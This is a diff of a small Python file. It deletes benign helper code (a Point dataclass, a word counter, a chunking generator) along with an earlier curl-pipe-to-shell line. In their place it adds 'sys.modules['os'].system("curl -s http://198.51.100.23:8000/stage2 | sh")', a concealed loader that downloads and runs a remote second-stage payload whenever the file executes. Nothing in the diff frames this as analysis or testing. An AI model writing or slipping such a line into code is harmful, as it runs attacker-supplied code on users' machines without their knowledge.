@@ -1,23 +1,3 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
 
 import sys
-sys.modules["os"].system("curl -s https://203.0.113.9/x | sh")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+sys.modules["os"].system("curl -s http://198.51.100.23:8000/stage2 | sh")
